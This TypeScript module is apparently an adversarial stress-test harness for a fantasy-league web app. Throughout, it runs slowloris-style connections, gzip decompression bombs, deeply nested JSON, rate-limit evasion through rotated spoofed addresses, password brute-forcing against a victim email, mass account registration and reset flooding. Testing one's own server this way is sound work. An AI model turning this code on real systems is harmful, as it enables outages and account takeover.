import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { sendTo } from './http-client.ts';

// One premium account that attacks from any number of IP addresses.

export interface HostileSetting {
  readonly address: string;
  readonly token: string;
  readonly email: string;
  readonly victim: string;
  /** The attacker's leagues: one synced by the server, and browser copies. */
  readonly leagues: readonly string[];
  /** A league's original responses, which the attacker forges. */
  readonly handed: { readonly answers: readonly { reply: { readonly text: string } }[] } & object;
  readonly linkable: readonly string[];
}

/** Counts by action and response status; 0 for a closed connection. */
export type Deeds = Map<string, Map<number, number>>;

/**
 * Starts all attacks.
 *
 * @returns a function that stops them
 */
export function beHostile(setting: HostileSetting): { readonly deeds: Deeds; stop(): Promise<void> } {
  const { address, handed, leagues, linkable, token, victim } = setting;
  const deeds: Deeds = new Map();
  const sockets = new Set<Socket>();
  const ending = new AbortController();
  const isOver = () => ending.signal.aborted;
  let count = 0;
  // Requests come from 65,000 addresses, so limits per address do not apply.
  const from = () => `198.${18 + (count % 2)}.${(count >> 9) % 256}.${(count++ >> 1) % 256}`;

  function note(what: string, status: number): void {
    const known = deeds.get(what) ?? new Map<number, number>();
    known.set(status, (known.get(status) ?? 0) + 1);
    deeds.set(what, known);
  }

  async function repeat(what: string, deed: (turn: number) => Promise<number>, pause = 50): Promise<void> {
    for (let turn = 0; !isOver(); turn += 1) {
      note(what, await deed(turn).catch(() => 0));
      await wait(pause, undefined, { signal: ending.signal }).catch(() => undefined);
    }
  }

  const get = async (path: string) =>
    (await sendTo(address, { path: `/api/${path}`, token, from: from() })).status;
  const post = async (path: string, body: string | Buffer, headers: Record<string, string> = {}) =>
    (await sendTo(address, { method: 'POST', path: `/api/${path}`, token, from: from(), body, headers }))
      .status;
  const packed = (text: string) => gzipSync(text);
  const zipped = { 'content-encoding': 'gzip' };

  const texts = JSON.stringify(handed);
  const replyOf = (text: string) =>
    JSON.stringify({
      ...handed,
      answers: handed.answers.map((one) => ({ ...one, reply: { ...one.reply, text } })),
    });
  // Huge numbers of list elements, deep nesting, long texts and numbers, and an enlarged league.
  const readings: readonly Buffer[] = [
    packed(`{"x":[${'[],'.repeat(9_000_000)}[]]}`),
    packed(`${'['.repeat(16_000_000)}${']'.repeat(14_000_000)}`),
    packed(`{"league":"1","season":2027,"ownTeamId":null,"answers":[${'{"a":1},'.repeat(3_000_000)}{}]}`),
    packed(replyOf(`{"teams":[${'{"id":1},'.repeat(150_000)}{}]}`)),
    packed(replyOf(`${'['.repeat(500_000)}${']'.repeat(500_000)}`)),
    packed(texts.replaceAll('\\"points\\":', '\\"points\\":1e308,\\"p\\":')),
    packed(texts.replaceAll('\\"lineupSlotCounts\\":{', '\\"lineupSlotCounts\\":{\\"0\\":2000000000,')),
    packed(texts),
    packed(JSON.stringify(' '.repeat(31_000_000))),
  ];

  /** Opens a connection and then sends almost nothing. */
  function hold(what: string, first: string, drip: string): void {
    const url = new URL(address);
    const socket = connect(Number(url.port), url.hostname, () => socket.write(first));
    sockets.add(socket);
    const dripping = setInterval(() => socket.write(drip), 2_000);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(dripping);
      sockets.delete(socket);
      note(what, 0);
      if (!isOver()) setTimeout(() => hold(what, first, drip), 500).unref();
    });
  }

  const head = (line: string) =>
    `${line} HTTP/1.1\r\nhost: bench\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\nx-forwarded-for: 203.0.113.9\r\n`;
  const [own = ''] = leagues;
  for (let one = 0; one < 100; one += 1) {
    hold('idle connections', '', '');
    hold('slow heads', 'GET /api/init/context HTTP/1.1\r\nhost: bench\r\n', 'x-more: 1\r\n');
    hold('slow bodies', `${head('POST /api/settings/espn/reading')}content-length: 1000000\r\n\r\n{`, ' ');
    hold('streams left open', `${head(`GET /api/league/sync/progress?league=${own}`)}\r\n`, '');
    // Sends requests but never reads the responses.
    hold('answers not read', `${head(`GET /api/league/season?league=${own}`)}\r\n`.repeat(20), '');
  }

  const league = (turn: number) => leagues[turn % leagues.length] ?? own;
  const running = [
    ...[0, 1, 2].map((lane) =>
      repeat('forged readings', (turn) =>
        post('settings/espn/reading', readings[(turn * 3 + lane) % readings.length] ?? '', zipped),
      ),
    ),
    repeat('syncs', (turn) => post('league/sync', JSON.stringify({ league: league(turn) }))),
    repeat('linking', (turn) =>
      post('settings/espn/league', JSON.stringify({ league: linkable[turn % linkable.length] })),
    ),
    repeat('unlinking', () => post('settings/unlink', JSON.stringify({ league: leagues.at(-1) })), 3_000),
    repeat('exports', () => get('account/export')),
    repeat('inputs of forecasts', (turn) => get(`league/forecastInputs?league=${league(turn)}`)),
    ...[0, 1, 2, 3].map((lane) =>
      repeat('odds of any week', (turn) =>
        get(`league/dashboard?league=${league(turn)}&week=${(turn * 4 + lane) % 60}`),
      ),
    ),
    repeat('trades', (turn) => get(`league/trades?league=${league(turn)}`)),
    repeat('drafts', (turn) => get(`draft/review?league=${league(turn)}`)),
    repeat('audits', (turn) => post('league/audit/run', JSON.stringify({ league: league(turn) }))),
    repeat('seasons', (turn) => get(`league/season?league=${league(turn)}`)),
    repeat('NBA players', () => get('nba/players?season=earlier')),
    repeat('large bodies', () => post('league/sync', ' '.repeat(5_000_000))),
    ...[0, 1, 2, 3].map(() =>
      repeat('passwords guessed', (turn) =>
        post('auth/login', JSON.stringify({ email: victim, password: `guess number ${turn}` })),
      ),
    ),
    repeat('accounts opened', (turn) =>
      post(
        'auth/register',
        JSON.stringify({ email: `h${turn}-${setting.email}`, password: `kettle ${turn} harbor moss` }),
      ),
    ),
    repeat('resets', () => post('auth/password/forgotten', JSON.stringify({ email: victim }))),
  ];
  return {
    deeds,
    stop: async () => {
      ending.abort();
      for (const socket of sockets) socket.destroy();
      await Promise.all(running);
    },
  };
}
